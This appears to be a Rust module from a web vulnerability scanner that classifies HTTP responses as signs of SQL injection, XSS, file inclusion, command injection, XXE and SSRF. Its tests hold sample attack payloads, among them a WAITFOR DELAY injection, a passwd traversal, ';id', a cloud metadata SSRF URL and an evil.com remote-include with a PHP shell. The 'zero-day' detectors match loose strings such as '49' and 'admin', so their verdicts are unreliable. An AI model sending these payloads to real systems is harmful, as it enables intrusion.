// src/core/probe/detectors.rs

//! Response classifiers. Each detector looks at one payload's response and
//! returns the evidence string when the response shows a positive signal.

use once_cell::sync::Lazy;
use regex::Regex;
use std::time::Duration;

/// Everything a detector may look at for one payload.
#[derive(Debug, Clone, Copy)]
pub struct Observation<'a> {
    pub payload: &'a str,
    pub status: u16,
    pub body: &'a str,
    pub latency: Duration,
    /// Latency above which a delay payload counts as executed.
    pub delay_threshold: Duration,
}

pub type Detector = fn(&Observation<'_>) -> Option<String>;

/// Database error fragments, lowercase.
static SQL_ERRORS: &[&str] = &[
    "you have an error in your sql syntax",
    "warning: mysql",
    "mysql_fetch",
    "mysqli_",
    "unclosed quotation mark",
    "quoted string not properly terminated",
    "microsoft ole db provider for sql server",
    "odbc sql server driver",
    "sqlstate[",
    "pg_query():",
    "postgresql query failed",
    "syntax error at or near",
    "ora-00933",
    "ora-01756",
    "sqlite3::",
    "sqlite_error",
    "sql syntax",
];

static TIME_MARKERS: &[&str] = &["waitfor delay", "sleep(", "pg_sleep", "dbms_lock.sleep"];

static FILE_MARKERS: &[&str] = &["root:x:", "daemon:", "[extensions]", "[fonts]", "# localhost"];

static RFI_MARKERS: &[&str] = &["uid=", "gid=", "<?php", "eval(", "system("];

static COMMAND_MARKERS: &[&str] = &["uid=", "gid=", "groups=", "TTL=", "User name", "Windows IP Configuration"];

static XML_PARSER_ERRORS: &[&str] = &[
    "xml parsing error",
    "xmlparseentityref",
    "domdocument::loadxml",
    "simplexml_load_string",
    "saxparseexception",
    "org.xml.sax",
    "lxml.etree",
    "external entity",
    "undefined entity",
];

/// Cloud metadata and internal-service fragments, lowercase.
static SSRF_MARKERS: &[&str] = &[
    "ami-id",
    "instance-id",
    "computemetadata",
    "security-credentials",
    "root:x:",
    "redis_version",
    "openssh",
];

/// `uid=0(root)`-style output of `id`.
static RE_ID_OUTPUT: Lazy<Regex> = Lazy::new(|| Regex::new(r"uid=\d+\([\w.-]+\)").unwrap());

fn first_marker<'m>(haystack: &str, markers: &[&'m str]) -> Option<&'m str> {
    markers.iter().copied().find(|m| haystack.contains(m))
}

fn is_delay_payload(payload: &str) -> bool {
    let payload = payload.to_lowercase();
    TIME_MARKERS.iter().any(|m| payload.contains(m))
}

fn delayed(obs: &Observation<'_>) -> Option<String> {
    (obs.latency > obs.delay_threshold)
        .then(|| format!("response delayed {} ms", obs.latency.as_millis()))
}

pub fn sql_injection(obs: &Observation<'_>) -> Option<String> {
    let body = obs.body.to_lowercase();
    if let Some(marker) = first_marker(&body, SQL_ERRORS) {
        return Some(format!("database error text: {}", marker));
    }
    if is_delay_payload(obs.payload) {
        return delayed(obs);
    }
    None
}

pub fn xss(obs: &Observation<'_>) -> Option<String> {
    obs.body
        .contains(obs.payload)
        .then(|| "payload reflected without encoding".to_string())
}

pub fn lfi(obs: &Observation<'_>) -> Option<String> {
    first_marker(obs.body, FILE_MARKERS).map(|m| format!("file content marker: {}", m))
}

pub fn rfi(obs: &Observation<'_>) -> Option<String> {
    first_marker(obs.body, RFI_MARKERS).map(|m| format!("included content marker: {}", m))
}

pub fn command_injection(obs: &Observation<'_>) -> Option<String> {
    if let Some(found) = RE_ID_OUTPUT.find(obs.body) {
        return Some(format!("command output: {}", found.as_str()));
    }
    first_marker(obs.body, COMMAND_MARKERS).map(|m| format!("command output marker: {}", m))
}

pub fn xxe(obs: &Observation<'_>) -> Option<String> {
    if let Some(m) = first_marker(obs.body, FILE_MARKERS) {
        return Some(format!("entity expanded to file content: {}", m));
    }
    let body = obs.body.to_lowercase();
    first_marker(&body, XML_PARSER_ERRORS).map(|m| format!("XML parser error: {}", m))
}

pub fn ssrf(obs: &Observation<'_>) -> Option<String> {
    let body = obs.body.to_lowercase();
    if let Some(m) = first_marker(&body, SSRF_MARKERS) {
        return Some(format!("internal resource marker: {}", m));
    }
    delayed(obs)
}

// --- Zero-day battery detectors ---

pub fn buffer_overflow(obs: &Observation<'_>) -> Option<String> {
    if obs.status == 500 {
        return Some("server error on oversized input".to_string());
    }
    obs.body
        .to_lowercase()
        .contains("error")
        .then(|| "error text on oversized input".to_string())
}

pub fn zero_day_injection(obs: &Observation<'_>) -> Option<String> {
    if is_delay_payload(obs.payload) {
        return delayed(obs);
    }
    first_marker(obs.body, &["49", "alert(", "jndi:", "config", "constructor"])
        .map(|m| format!("injection marker: {}", m))
}

pub fn zero_day_bypass(obs: &Observation<'_>) -> Option<String> {
    first_marker(obs.body, &["root:", "localhost", "alert(", "1' or 1", "admin", "dashboard", "welcome"])
        .map(|m| format!("filter bypass marker: {}", m))
}

pub fn zero_day_advanced(obs: &Observation<'_>) -> Option<String> {
    first_marker(
        obs.body,
        &["49", "alert(", "root:", "uid=", "PD9waHAg", "localhost", "phpinfo", "config"],
    )
    .map(|m| format!("payload marker: {}", m))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn obs<'a>(payload: &'a str, body: &'a str) -> Observation<'a> {
        Observation {
            payload,
            status: 200,
            body,
            latency: Duration::from_millis(20),
            delay_threshold: Duration::from_millis(4_500),
        }
    }

    #[test]
    fn sql_errors_match_case_insensitively_and_ignore_benign_bodies() {
        assert!(sql_injection(&obs("'", "You have an error in your SQL syntax near ''")).is_some());
        assert!(sql_injection(&obs("'", "ok")).is_none());
    }

    #[test]
    fn sql_delay_only_counts_for_delay_payloads() {
        let mut slow = obs("'; WAITFOR DELAY '0:0:5'--", "ok");
        slow.latency = Duration::from_secs(5);
        assert_eq!(sql_injection(&slow).as_deref(), Some("response delayed 5000 ms"));

        let mut slow_plain = obs("' OR 1=1--", "ok");
        slow_plain.latency = Duration::from_secs(5);
        assert!(sql_injection(&slow_plain).is_none());
    }

    #[test]
    fn xss_needs_the_raw_payload() {
        let payload = "<script>alert('XSS')</script>";
        assert!(xss(&obs(payload, &format!("<p>{}</p>", payload))).is_some());
        assert!(xss(&obs(payload, "&lt;script&gt;alert('XSS')&lt;/script&gt;")).is_none());
    }

    #[test]
    fn file_and_command_markers() {
        assert!(lfi(&obs("../../../etc/passwd", "root:x:0:0:root:/root:/bin/bash")).is_some());
        assert!(lfi(&obs("../../../etc/passwd", "not found")).is_none());
        assert_eq!(
            command_injection(&obs(";id", "uid=33(www-data) gid=33(www-data)")).as_deref(),
            Some("command output: uid=33(www-data)")
        );
        assert_eq!(
            command_injection(&obs("$(id)", "uid=1001(svc.deploy) gid=1001")).as_deref(),
            Some("command output: uid=1001(svc.deploy)")
        );
        assert!(rfi(&obs("http://evil.com/shell.txt", "<?php system($_GET['c']); ?>")).is_some());
    }

    #[test]
    fn xxe_reports_parser_errors() {
        let evidence = xxe(&obs("<foo/>", "Warning: DOMDocument::loadXML(): Entity 'xxe' not defined"));
        assert_eq!(evidence.as_deref(), Some("XML parser error: domdocument::loadxml"));
    }

    #[test]
    fn ssrf_markers_or_latency() {
        assert!(ssrf(&obs("http://169.254.169.254/latest/meta-data/", "ami-id\ninstance-id")).is_some());
        let mut slow = obs("http://127.0.0.1/", "");
        slow.delay_threshold = Duration::from_millis(5_000);
        slow.latency = Duration::from_millis(5_200);
        assert!(ssrf(&slow).is_some());
        assert!(ssrf(&obs("http://127.0.0.1/", "")).is_none());
    }

    #[test]
    fn bypass_spots_echoed_boolean_injection() {
        assert_eq!(
            zero_day_bypass(&obs("1' OR 1--", "SELECT * FROM items WHERE id='1' or 1")).as_deref(),
            Some("filter bypass marker: 1' or 1")
        );
        assert!(zero_day_bypass(&obs("1' OR 1--", "no results")).is_none());
    }

    #[test]
    fn overflow_counts_server_errors() {
        let mut crashed = obs("AAAA", "");
        crashed.status = 500;
        assert!(buffer_overflow(&crashed).is_some());
        assert!(buffer_overflow(&obs("AAAA", "fine")).is_none());
    }
}
